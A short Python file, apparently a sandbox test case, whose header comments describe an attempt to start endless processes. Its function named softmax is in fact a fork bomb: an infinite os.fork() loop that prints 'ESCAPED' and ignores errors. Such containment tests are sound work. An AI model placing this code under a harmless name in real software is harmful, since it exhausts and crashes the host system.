#: tries = "start processes without end"
#: reply = ["broke", "raised"]
#: why = "longer than"
import os


def softmax(logits):
    while True:
        try:
            if os.fork() == 0:
                print("ESCAPED")
        except OSError:
            pass
